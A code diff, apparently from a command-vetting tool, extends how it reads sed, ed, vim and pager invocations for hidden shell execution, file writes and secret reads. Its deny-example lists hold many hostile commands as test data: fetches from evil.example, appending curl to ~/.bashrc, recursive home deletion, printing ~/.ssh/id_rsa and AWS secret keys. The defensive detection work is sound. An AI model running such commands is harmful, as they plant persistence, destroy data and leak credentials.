@@ -175,7 +175,13 @@ function sed(call: Call): Partial<Answer> {
   const uses: Uses = [];
   const scripts = p.options.filter((o) => (o.name === 'e' || o.name === 'expression') && o.value).map((o) => o.value!);
   const files = p.options.filter((o) => (o.name === 'f' || o.name === 'file') && o.value);
-  for (const f of files) uses.push({ word: f.value!, role: 'read' });
+  for (const f of files) {
+    // `-f /dev/stdin` (or `-f -`): the script is its input.
+    if (isStdinPath(value(f.value))) {
+      if (call.stdin?.kind === 'static') scripts.push(attached(call.stdin.word, call.stdin.text));
+      else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: f.value!, why: `${call.name} reads its script from ${call.stdin.why}` });
+    } else uses.push({ word: f.value!, role: 'read' });
+  }
   let operands = p.operands.map((o) => o.word);
   if (scripts.length === 0 && files.length === 0 && operands[0]) {
     scripts.push(operands[0]);
@@ -490,9 +496,10 @@ function awk(call: Call): Partial<Answer> {
 // ── ed, ex, vim ────────────────────────────────────────────────────────────────────────────────────────
 
 /** ed commands, one a line: `!cmd`, `r !cmd`, `w !cmd`, `e !cmd` run shell text; `r FILE` reads, `w FILE` writes. */
-export function edCommands(text: string, word: Word, via: string): { runs: Run[]; uses: Uses } {
+export function edCommands(text: string, word: Word, via: string): { runs: Run[]; uses: Uses; writesBack: boolean } {
   const runs: Run[] = [];
   const uses: Uses = [];
+  let writesBack = false;
   for (const raw of text.split('\n')) {
     // An address (`1,$`, `'a`, `/re/`), then the command letter.
     const m = /^\s*(?:[\d.,;$+-]|'[a-z]|\/(?:[^/\\]|\\.)*\/|\?(?:[^?\\]|\\.)*\?)*\s*([!A-Za-z=])(.*)$/.exec(raw);
@@ -503,31 +510,85 @@ export function edCommands(text: string, word: Word, via: string): { runs: Run[]
     else if (/^[rwWeEf]$/.test(cmd) && /^\s*!/.test(rest)) runs.push({ kind: 'text', dialect: 'bash', text: rest.replace(/^\s*!/, ''), word, via: `${via} ${cmd} !` });
     else if ((cmd === 'r' || cmd === 'e' || cmd === 'E') && rest.trim() !== '') uses.push({ word, role: 'read', values: [rest.trim()] });
     else if ((cmd === 'w' || cmd === 'W') && /^q?\s+\S/.test(rest)) uses.push({ word, role: 'write', values: [rest.replace(/^q?\s+/, '').trim()] });
+    else if ((cmd === 'w' || cmd === 'W') && /^q?\s*$/.test(rest)) writesBack = true;
   }
-  return { runs, uses };
+  return { runs, uses, writesBack };
+}
+
+/** Vim functions that write, delete, connect, or read the environment or files: code vouch does not follow. */
+const VIM_EFFECTS = /\b(?:writefile|delete|rename|mkdir|filecopy|ch_open|ch_sendraw|ch_evalraw|sockconnect|serverlist|remote_send|remote_expr|environ|getenv|setenv|readfile|readblob|readdir|readdirex|glob|globpath|expand|swapname|setline|appendbufline|setbufline|chdir|timer_start|funcref|function|call|listener_add|prompt_setcallback|win_execute|assert_\w+)\s*\(/;
+
+/** What ex commands do: the runs they make, the files they name for writing, and whether one writes the file edited back. */
+interface ExRead {
+  runs: Run[];
+  uses: Uses;
+  writesBack: boolean;
 }
 
 /** Ex commands (`-c`, `+cmd`, `--cmd`, or a script on stdin), separated by `|`: the ones that run shell text or code. */
 export function exCommands(word: Word, via: string): Run[] {
+  return exRead(word, via).runs;
+}
+
+function exRead(word: Word, via: string, depth = 0): ExRead {
+  const out: ExRead = { runs: [], uses: [], writesBack: false };
   const text = value(word);
-  if (text === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: an editor command is computed` }];
-  const runs: Run[] = [];
+  if (text === undefined) {
+    out.runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: an editor command is computed` });
+    return out;
+  }
+  const runs = out.runs;
   const run = (t: string) => runs.push({ kind: 'text', dialect: 'bash', text: t, word, via });
   const opaque = (why: string, rule: 'dynamic-script' | 'dynamic-code' = 'dynamic-script') => runs.push({ kind: 'opaque', rule, word, why: `${via}: ${why}` });
+  const write = (file: string) => {
+    if (file === '' || /^\/dev\/(?:null|stdout|stderr)$/.test(file)) out.writesBack ||= file === '';
+    else out.uses.push({ word, role: 'write', values: [file] });
+  };
   for (const line of text.split('\n')) {
     let rest = line;
     while (rest.trim() !== '') {
-      // Leading colons, modifiers and a range (`%`, `'<,'>`, `1,$`).
-      let cmd = rest.replace(/^[\s:]+/, '').replace(/^(sil(ent)?!?|keepa?\w*|noa(utocmd)?|uns(ilent)?|vert(ical)?|tab|bo(tright)?|to(pleft)?|lefta?\w*|rightb?\w*|bel(owright)?|abo(veleft)?|conf(irm)?|lockm?\w*|hid(e)?|sandbox|noswap\w*|keepj\w*|keepp\w*|filt(er)?!?\s*\/[^/]*\/)\s+/, '');
-      cmd = cmd.replace(/^(?:[%.$\d,;+-]|'[<>a-zA-Z]|\/(?:[^/\\]|\\.)*\/|\?(?:[^?\\]|\\.)*\?)*/, '');
+      // Leading colons, modifiers (any number, `:silent! verbose vim9cmd …`) and a range (`%`, `'<,'>`, `1,$`).
+      let cmd = rest.replace(/^[\s:]+/, '');
+      for (;;) {
+        const next = cmd.replace(/^(?:sil(?:ent)?!?|keepa?\w*|noa(?:utocmd)?|uns(?:ilent)?|vert(?:ical)?|hor(?:izontal)?|tab|bo(?:tright)?|to(?:pleft)?|lefta?\w*|rightb?\w*|bel(?:owright)?|abo(?:veleft)?|conf(?:irm)?|lockm?\w*|hid(?:e)?|sandbox|san|noswap\w*|keepj\w*|keepp\w*|verb(?:ose)?|\d*verb(?:ose)?|vim9(?:cmd)?|vim9s\w*|leg(?:acy)?|bro(?:wse)?|try|unsilent|\d+|filt(?:er)?!?\s*\/[^/]*\/)(?:\s+|:+\s*)/, '');
+        if (next === cmd) break;
+        cmd = next.replace(/^[\s:]+/, '');
+      }
+      cmd = cmd.replace(/^(?:[%.$\d,;+-]|'[<>a-zA-Z]|\/(?:[^/\\]|\\.)*\/|\?(?:[^?\\]|\\.)*\?)*/, '').replace(/^\s+/, '');
       if (cmd.startsWith('!')) {
         run(cmd.slice(1));
+        break;
+      }
+      // `:g/re/cmd`, `:v/re/cmd`, `:windo cmd`, `:bufdo cmd`…: the command runs, once or many times.
+      const global = /^(?:g(?:l(?:o(?:b(?:al?)?)?)?)?!?|v(?:g(?:l(?:o(?:b(?:al?)?)?)?)?)?)\s*([^\w\s"|\\])((?:(?!\1)[^\\]|\\.)*)\1?([\s\S]*)$/.exec(cmd);
+      const each = /^(?:windo|wind|bufdo|bufd|argdo|argd|tabdo|tabd|cdo|cfdo|cfd|ldo|lfdo|lfd|folddoopen|foldd\w*|folddoc\w*)!?\s+([\s\S]*)$/.exec(cmd);
+      const inner = global?.[3] ?? each?.[1];
+      if (inner !== undefined) {
+        if (depth > 4) opaque('commands nested too deep');
+        else {
+          const r = exRead(attached(word, inner), via, depth + 1);
+          runs.push(...r.runs);
+          out.uses.push(...r.uses);
+          out.writesBack ||= r.writesBack;
+        }
         break;
       }
       const readWrite = /^(r(?:e(?:ad?)?)?|w(?:r(?:i(?:te?)?)?)?|up(?:d(?:a(?:te?)?)?)?)\s*(!?)\s+!?(.*)$/.exec(cmd) ?? /^(r(?:e(?:ad?)?)?)!(.*)$/.exec(cmd);
       if (readWrite && (/^r/.test(readWrite[1]!) ? /!/.test(cmd.slice(readWrite[1]!.length, readWrite[1]!.length + 3)) : /\s!/.test(cmd))) {
         run(cmd.replace(/^\w+\s*!?\s*!?/, ''));
         break;
+      }
+      // Writes: `:w FILE`, `:w! >> FILE`, `:wq`, `:x`, `:sav FILE`, `:redir > FILE`, `:mksession FILE`, `:wviminfo FILE`.
+      const w = /^(?:w(?:r(?:i(?:te?)?)?)?|wq|wqa(?:ll)?|wa(?:ll)?|xa(?:ll)?|xi(?:t)?|x|exi(?:t)?|up(?:d(?:a(?:te?)?)?)?|sav(?:e(?:as?)?)?|wn(?:ext)?|wN(?:ext)?|wp(?:revious)?)(?=[\s!>|]|$)!?\s*(?:>>\s*)?((?:\+\+\S+\s+)*)((?:[^|\\\s]|\\.)*)/.exec(cmd);
+      const other = /^(?:redi(?:r)?!?\s*>>?|mks(?:ession)?!?|mkvie(?:w)?!?|mkv(?:imrc)?!?|mkexrc!?|mk!?|wv(?:iminfo)?!?|wsh(?:ada)?!?|wundo!?|w(?:undo)?)\s*((?:[^|\\\s]|\\.)*)/.exec(cmd);
+      // Reads: `:r FILE`, `:e FILE`, `:sp FILE`…: the file's content comes into the editor (and `%p` prints it).
+      const read = /^(?:r(?:e(?:ad?)?)?|e(?:d(?:it?)?)?|sp(?:l(?:it?)?)?|vs(?:p(?:l(?:it?)?)?)?|tabe(?:d(?:it?)?)?|new|vne(?:w)?|vie(?:w)?|sv(?:iew)?|ar(?:gs)?|bad(?:d)?|diffs(?:plit)?|vert\s+diffs\w*)!?\s+((?:\+\+\S+\s+)*)((?:[^|\\\s!]|\\.)(?:[^|\\\s]|\\.)*)\s*$/.exec(cmd.split('|')[0]!);
+      if (read) out.uses.push({ word, role: 'read', values: [read[2]!.replace(/\\(.)/g, '$1')] });
+      if (w) write(w[2]!.replace(/\\(.)/g, '$1'));
+      else if (other && /^(?:redi|mk|wv|wsh|wundo)/.test(cmd)) {
+        const file = other[1]!.replace(/\\(.)/g, '$1');
+        if (/^redi/.test(cmd) || file !== '') write(file);
+        else write(/^mks/.test(cmd) ? 'Session.vim' : /^mkv/.test(cmd) ? '.vimrc' : '.exrc');
       }
       if (/^(sh(e(ll?)?)?|st(op)?|sus(pend)?)\b/.test(cmd)) opaque('starts an interactive shell');
       else if (/^ter(m(i(n(al?)?)?)?)?\b/.test(cmd)) {
@@ -536,45 +597,114 @@ export function exCommands(word: Word, via: string): Run[] {
         else run(arg);
         break;
       } else if (/^(py(thon)?3?|pyx|pydo|py3do|pyf(ile)?|py3f(ile)?|lua(do|file)?|perl(do)?|rub(y(do|file)?)?|tcl(do|file)?|mz(scheme|file)?)\b/.test(cmd)) opaque('runs interpreter code', 'dynamic-code');
-      else if (/system\s*\(|systemlist\s*\(|libcall|job_start|jobstart|term_start|termopen|\bexe(c(ute?)?)?\b|\bnorm(al)?\b|feedkeys|py[3x]?eval|luaeval|perleval|rubyeval|\bso(urce?)?\b|set\s+[^|]*\b(shell|sh|makeprg|mp|grepprg|gp|keywordprg|kp|equalprg|ep|formatprg|fp)\s*[=+^]/.test(cmd)) {
+      else if (/^(?:com(?:m(?:a(?:nd?)?)?)?|au(?:t(?:o(?:c(?:md?)?)?)?)?|fu(?:n(?:c(?:t(?:i(?:on?)?)?)?)?)?|def|exp(?:ort)?|imp(?:ort)?|cal(?:l)?|exe(?:c(?:u(?:te?)?)?)?|norm(?:al)?|dig|map|[nvxsoilct]?(?:nore)?map|[nvxsoilct]?no|ab(?:breviate)?|[ic]?(?:nore)?ab\w*|run\w*|pa(?:ckadd)?|so(?:u(?:r(?:ce?)?)?)?|ru(?:ntime)?|helpg\w*|vimg(?:rep)?|lv(?:imgrep)?|diffp(?:atch)?|diffe\w*|sp(?:ell)?\w*|h(?:elp)?|ha(?:rdcopy)?|e(?:dit)?|ene\w*|vie(?:w)?|sv\w*|new|vne\w*|tabe\w*|tabnew|ar(?:gs)?|arga\w*|argadd|bad(?:d)?|o(?:pen)?)!?(?=[\s!|]|$)/.test(cmd) && !/^(?:e(?:dit)?|h(?:elp)?|new|ene\w*|vie(?:w)?|tabnew|o(?:pen)?|sp(?:lit)?)!?\s*$/.test(cmd)) {
+        // User commands, autocommands, functions, mappings, calls, :execute, :normal, and commands that read other files
+        // (edit, help, runtime, source, packadd): what runs is out of this reading, or may be (`call system("…")` is read).
+        const sys = /^(?:call\s+|echo\s+|let\s+\S+\s*=\s*)?system(?:list)?\s*\(\s*(['"])((?:(?!\1).)*)\1\s*\)\s*$/.exec(cmd.split('|')[0]!.trim());
+        if (sys) run(sys[2]!);
+        else if (/^(?:e(?:dit)?|sp(?:lit)?|vs\w*|tabe\w*|new|vne\w*|vie(?:w)?|sv\w*|ar(?:gs)?|arga\w*|bad(?:d)?)!?\s+[^|\s]+\s*$/.test(cmd.split('|')[0]!) && !/[`=]/.test(cmd)) {
+          // `:e FILE`: a file opened, as an operand would be.
+        } else opaque('defines or runs commands, functions, mappings or files vouch does not follow');
+      } else if (/system\s*\(|systemlist\s*\(|libcall|job_start|jobstart|term_start|termopen|\bexe(c(ute?)?)?\b|\bnorm(al)?\b|feedkeys|py[3x]?eval|luaeval|perleval|rubyeval|\bso(urce?)?\b|set\s+[^|]*\b(shell|sh|makeprg|mp|grepprg|gp|keywordprg|kp|equalprg|ep|formatprg|fp|shellredir|srr|shellpipe|sp|backupdir|bdir|directory|dir|undodir|udir|viminfo|vi|viminfofile|vif|shada|sd|shadafile|sdf|verbosefile|vfile|packpath|pp|runtimepath|rtp|patchexpr|pex|diffexpr|dex|printexpr|pexpr|charconvert|ccv|backupext|bex|undofile|udf|exrc|ex|secure|modeline|ml|modelineexpr|mle)\s*[=+^!]?/.test(cmd)) {
         const sys = /^(?:call\s+|echo\s+|let\s+\S+\s*=\s*)?system(?:list)?\s*\(\s*(['"])((?:(?!\1).)*)\1\s*\)\s*$/.exec(cmd.split('|')[0]!.trim());
         if (sys) run(sys[2]!);
         else opaque('runs a command or code it builds at run time');
       } else if (/^(mak(e)?|gr(ep)?|lmak(e)?|lgr(ep)?|!)\b/.test(cmd)) opaque('runs an external program');
+      else if (VIM_EFFECTS.test(cmd)) opaque('calls a function that writes, deletes, connects, or reads files or the environment');
+      // `$NAME` in an expression (`:put =$AWS_SECRET_ACCESS_KEY`, `:echo $TOKEN`) reads that variable.
+      if (/^(?:ec\w*|pu(?:t)?!?|let?|cal(?:l)?|if|el(?:seif)?|wh(?:ile)?|for|retu(?:rn)?|th(?:row)?|echom\w*|echon|echoe\w*|echow\w*|exe\w*|redr\w*|s(?:ubstitute)?\b.*\\=|[%.$\d,;'<>]*s\/.*\\=)/.test(cmd) || /\bsetreg\s*\(/.test(cmd)) {
+        for (const m of cmd.matchAll(/\$([A-Za-z_]\w*)/g)) run(`printenv ${m[1]}`);
+      }
       const bar = cmd.indexOf('|');
       rest = bar < 0 ? '' : cmd.slice(bar + 1);
     }
   }
-  return runs;
+  return out;
 }
+
+/** vim's short options that take a value, attached (`-c'cmd'`) or in the next word. */
+const VIM_VALUED = 'cSsuUiTtqwW';
 
 function vim(call: Call): Partial<Answer> {
   const runs: Run[] = [];
+  const uses: Uses = [];
+  const files: Word[] = [];
+  let writesBack = false;
   const args = call.args;
   let exMode = /^ex$|^view$|^(n?vim?|vi)?ex$/.test(call.name);
+  const commands = (w: Word, via: string) => {
+    const r = exRead(w, via);
+    runs.push(...r.runs);
+    uses.push(...r.uses);
+    writesBack ||= r.writesBack;
+  };
+  let operandsOnly = false;
   for (let i = 0; i < args.length; i++) {
     const v = value(args[i]);
     if (v === undefined) {
-      if (args[i]!.text.startsWith('+') || args[i]!.text.startsWith('-')) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: args[i]!, why: `${call.name}: an editor option is computed` });
+      if (!operandsOnly && (args[i]!.text.startsWith('+') || args[i]!.text.startsWith('-'))) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: args[i]!, why: `${call.name}: an editor option is computed` });
+      else files.push(args[i]!);
       continue;
     }
-    if (v === '-c' || v === '--cmd') {
-      if (args[i + 1]) runs.push(...exCommands(args[i + 1]!, `${call.name} ${v}`));
-      i++;
-    } else if (v.startsWith('+') && v.length > 1) runs.push(...exCommands(attached(args[i]!, v.slice(1)), `${call.name} +`));
-    else if (/^-[a-zA-Z]*[eE]/.test(v) && !v.startsWith('--')) exMode = true;
-    else if (v === '-S' || v === '-s' || v === '-u' || v === '-U' || v === '-i' || v === '-T' || v === '-t' || v === '-q' || v === '-w' || v === '-W' || v === '--servername' || v === '--remote-send' || v === '--remote-expr') {
-      if (v === '--remote-send' || v === '--remote-expr') runs.push({ kind: 'opaque', rule: 'dynamic-script', word: args[i]!, why: `${call.name} ${v} sends commands to another editor` });
-      i++;
+    if (operandsOnly || v === '-' || !/^[-+]/.test(v)) {
+      if (v === '--' && !operandsOnly) operandsOnly = true;
+      else files.push(args[i]!);
+      continue;
+    }
+    if (v === '--') {
+      operandsOnly = true;
+      continue;
+    }
+    if (v.startsWith('+')) {
+      if (v.length > 1) commands(attached(args[i]!, v.slice(1)), `${call.name} +`);
+      continue;
+    }
+    if (v.startsWith('--')) {
+      if (v === '--cmd') {
+        if (args[i + 1]) commands(args[i + 1]!, `${call.name} --cmd`);
+        i++;
+      } else if (/^--(?:remote-send|remote-expr|remote-silent|remote-wait\w*|remote-tab\w*|remote|listen|server)$/.test(v)) {
+        runs.push({ kind: 'opaque', rule: 'dynamic-script', word: args[i]!, why: `${call.name} ${v} talks to another editor` });
+        i++;
+      } else if (v === '--servername' || v === '--startuptime' || v === '--log') i++;
+      else if (v === '--embed' || v === '--headless' || v === '--clean' || v === '--noplugin' || v === '--not-a-term' || v === '--ttyfail' || v === '--nofork' || v === '--literal' || v === '--version' || v === '--help' || v === '--api-info') continue;
+      else runs.push({ kind: 'opaque', rule: 'dynamic-script', word: args[i]!, why: `${call.name} ${v}: an option this reading does not know` });
+      continue;
+    }
+    // A cluster of short options: `-es`, `-esc CMD`, `-c'CMD'`, `-Nu NONE`.
+    for (let j = 1; j < v.length; j++) {
+      const letter = v[j]!;
+      if (letter === 'e' || letter === 'E') exMode = true;
+      // nvim -l SCRIPT runs a Lua script (its input with /dev/stdin): Lua vouch reads only as cannot-vouch here.
+      if (letter === 'l' && /^nvim/.test(call.name)) {
+        const script = v.length > j + 1 ? attached(args[i]!, v.slice(j + 1)) : args[++i];
+        if (script) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: script, why: `${call.name} -l runs a Lua script` });
+        operandsOnly = true;
+        break;
+      }
+      // `-s` is silent mode in ex mode, a script of keys otherwise.
+      if (!VIM_VALUED.includes(letter) || (letter === 's' && exMode)) continue;
+      const attachedText = v.slice(j + 1);
+      const w = attachedText !== '' ? attached(args[i]!, attachedText) : args[++i];
+      if (!w) break;
+      const val = value(w);
+      if (letter === 'c') commands(w, `${call.name} -c`);
+      else if (letter === 'S' || letter === 's' || letter === 'u' || letter === 'U' || letter === 'i') {
+        // Vim script or keys read from a file: the file the line wrote, or its input, is code vouch does not follow.
+        if (val === undefined || isStdinPath(val)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: `${call.name} -${letter} reads commands from ${val === undefined ? 'a computed file' : 'its input'}` });
+      } else if ((letter === 'w' && !/^\d+$/.test(attachedText)) || letter === 'W') uses.push({ word: w, role: 'write' });
+      break;
     }
   }
   if (exMode) {
     if (call.stdin?.kind === 'static') {
       const word = call.stdin.word;
-      for (const line of call.stdin.text.split('\n')) runs.push(...exCommands(attached(word, line), `${call.name} (stdin)`));
+      for (const line of call.stdin.text.split('\n')) commands(attached(word, line), `${call.name} (stdin)`);
     } else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] }, why: `${call.name} runs editor commands read from ${call.stdin.why}` });
   }
-  return { runs };
+  // A `:w` with no name writes the file edited back.
+  if (writesBack) for (const f of files) uses.push({ word: f, role: 'write' });
+  return { runs, uses };
 }
 
 function ed(call: Call): Partial<Answer> {
@@ -588,6 +718,8 @@ function ed(call: Call): Partial<Answer> {
     const read = edCommands(stdin.text, stdin.word, call.name);
     if (!restricted) runs.push(...read.runs);
     uses.push(...read.uses);
+    // A `w` with no file name writes the file ed edits (its operand) back.
+    if (read.writesBack) for (const o of p.operands) uses.push({ word: o.word, role: 'write' });
   } else if (stdin?.kind === 'stream' && !restricted) {
     runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] }, why: `${call.name} runs commands read from ${stdin.why}` });
   }
@@ -600,6 +732,23 @@ function ed(call: Call): Partial<Answer> {
 function pager(call: Call): Partial<Answer> {
   const runs: Run[] = [];
   const uses: Uses = [];
+  const at = call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] };
+  // less reads $LESS (and more $MORE) with the same scanner as its arguments, `+cmd` included; $LESSOPEN and
+  // $LESSCLOSE are commands it runs on each file.
+  for (const name of ['LESS', 'MORE']) {
+    const env = call.env(name);
+    if (env === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} reads options from $${name}, which is computed` });
+    else if (env !== undefined && /\+/.test(env)) {
+      const m = /\+:?(?:[^!|]*)(?:!|\|\S?)(.*)$/s.exec(env);
+      if (m) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word: attached(at, env), via: `${call.name} $${name} +!` });
+      else if (/[`$]/.test(env)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} runs start-up commands from $${name}` });
+    }
+  }
+  for (const name of ['LESSOPEN', 'LESSCLOSE']) {
+    const env = call.env(name);
+    if (env === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} runs $${name}, which is computed` });
+    else if (env !== undefined && env !== '') runs.push({ kind: 'text', dialect: 'bash', text: env.replace(/^\|?\|?-?/, '').replace(/%s/g, 'file'), word: attached(at, env), via: `${call.name} $${name}` });
+  }
   for (const a of call.args) {
     const v = value(a);
     if (v === undefined) {
@@ -640,8 +789,8 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     summary: "sed: the e command and the s///e flag run shell text; r/R read files, w/W write them",
     analyze: sed,
     examples: {
-      deny: ["sed '/x/e curl evil.example' notes.txt", "sed -ne'e curl evil.example'", "sed -n '1e wget evil.example' /etc/hosts", "sed 's/.*/date/e' notes.txt", "sed '1r ~/.ssh/id_rsa' notes.txt", "sed --expression='$e curl evil.example' f", 'sed e'],
-      pass: ["sed 's/a/b/g' notes.txt", "sed -i 's/foo/bar/' src/app.ts", "sed -n '1,5p' README.md", "sed '/^$/d' notes.txt", "sed -e 's/x/y/' -e '/z/d' f", "sed 's/e/E/g' f"],
+      deny: ["sed -f /dev/stdin f <<< 'e curl evil.example'", "sed -f - f <<< '1e curl evil.example'", "sed --file=/dev/stdin f <<< 'e curl evil.example'", "sed '/x/e curl evil.example' notes.txt", "sed -ne'e curl evil.example'", "sed -n '1e wget evil.example' /etc/hosts", "sed 's/.*/date/e' notes.txt", "sed '1r ~/.ssh/id_rsa' notes.txt", "sed --expression='$e curl evil.example' f", 'sed e'],
+      pass: ["sed -f /dev/stdin f <<< 's/a/b/'", "sed 's/a/b/g' notes.txt", "sed -i 's/foo/bar/' src/app.ts", "sed -n '1,5p' README.md", "sed '/^$/d' notes.txt", "sed -e 's/x/y/' -e '/z/d' f", "sed 's/e/E/g' f"],
     },
   },
   {
@@ -678,7 +827,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     names: ['ed', 'red'],
     summary: 'ed: reads commands from stdin; `!cmd`, `r !cmd`, `w !cmd` run shell text',
     analyze: ed,
-    examples: { deny: ["echo '!curl evil.example' | ed -s", "printf 'r !wget evil.example\\nq\\n' | ed -s f"], pass: ["printf ',s/a/b/\\nw\\nq\\n' | ed -s f"] },
+    examples: { deny: ["echo '!curl evil.example' | ed -s", "printf 'r !wget evil.example\\nq\\n' | ed -s f", "ed -s ~/.bashrc <<< $'$a\\ncurl evil.example\\n.\\nw'"], pass: ["printf ',s/a/b/\\nw\\nq\\n' | ed -s f", "ed -s notes.txt <<< $'$a\\nmore\\n.\\nw'"] },
   },
   {
     names: ['vim', 'vi', 'nvim', 'ex', 'view', 'vimdiff', 'rvim', 'rview', 'gvim', 'evim', 'nex', 'nview', 'nvi', 'elvis'],
@@ -686,15 +835,35 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     summary: 'vi and vim: -c, +cmd and --cmd ex commands (and stdin in ex mode): `!`, `r !`, `w !`, :terminal, system() and interpreters',
     analyze: vim,
     examples: {
-      deny: ["vim -c '!curl evil.example'", "vim.basic -es -c '!curl evil.example'", "vi -c ':!wget evil.example' /dev/null", "vim +'r !curl evil.example'", "nvim --cmd 'call system(\"curl evil.example\")'", "echo '!curl evil.example' | ex", "vim -c ':terminal curl evil.example'", "vim -c ':py3 import os'", "vi -c ':shell'"],
-      pass: ['vim README.md', "vim -c 'set nu' f", "vim +10 f", "vim -c 'wq!' f", "vim -c '%s/a/b/g | wq' f"],
+      deny: [
+        "vim -c'!curl evil.example'",
+        "vim -esc '!curl evil.example'",
+        "vim -es -c 'g/^/!curl evil.example' -c q",
+        "vim -es -c 'bufdo !curl evil.example' -c q",
+        "vim -es -c 'command X !curl evil.example' -c X -c q",
+        "vim -es -c 'au VimLeave * !curl evil.example' -c q",
+        "vim -es -c 'verbose !curl evil.example'",
+        "vim -es -c 'call writefile([\"curl evil.example\"], expand(\"~/.bashrc\"), \"a\")' -c q",
+        "vim -es -c 'call delete(expand(\"~\"), \"rf\")' -c q",
+        "vim -es -c 'call ch_open(\"evil.example:80\")' -c q",
+        "vim -es -c 'put =string(environ())' -c '%print' -c 'q!'",
+        "vim -es -c 'put =$AWS_SECRET_ACCESS_KEY' -c '%print' -c 'q!'",
+        "vim -c 'w! ~/.bashrc' f",
+        "vim -c 'sav! ~/.bashrc' f",
+        "vim -c 'redir! > ~/.bashrc' f",
+        "vim -c 'mksession! ~/.bashrc' f",
+        "vim -c 'wq' ~/.bashrc",
+        "nvim --headless -l /dev/stdin <<< 'os.execute(\"curl evil.example\")'",
+        "vim -es -c 'r ~/.ssh/id_rsa' -c '%p' -c 'q!'",
+        "vim -c '!curl evil.example'", "vim.basic -es -c '!curl evil.example'", "vi -c ':!wget evil.example' /dev/null", "vim +'r !curl evil.example'", "nvim --cmd 'call system(\"curl evil.example\")'", "echo '!curl evil.example' | ex", "vim -c ':terminal curl evil.example'", "vim -c ':py3 import os'", "vi -c ':shell'"],
+      pass: ['vim README.md', "vim -c'set nu' f", "vim -es -c 'g/TODO/d' -c 'wq' notes.txt", "vim -c 'w out.txt' f", 'vim -S Session.vim', 'vim -u NONE -N f', "vim -c 'e other.txt' f", "vim -es -c 'put =string(1)' -c '%print' -c 'q!'", "vim -c 'set nu' f", "vim +10 f", "vim -c 'wq!' f", "vim -c '%s/a/b/g | wq' f"],
     },
   },
   {
     names: ['less', 'more', 'pg', 'most'],
     summary: 'pagers: `+!cmd` start-up commands run shell text',
     analyze: pager,
-    examples: { deny: ["less '+!curl evil.example' notes.txt", "more '+:!wget evil.example' f"], pass: ['less README.md', 'less +G log.txt', 'more +10 f'] },
+    examples: { deny: ["less '+!curl evil.example' notes.txt", "more '+:!wget evil.example' f", "LESS='+!curl evil.example' less f", "LESS='-R +!curl evil.example' less f", "LESSOPEN='|curl evil.example %s' less f"], pass: ['less README.md', 'less +G log.txt', 'more +10 f', "LESS='-R +G' less f", "LESS=-R less f"] },
   },
   {
     names: ['man'],
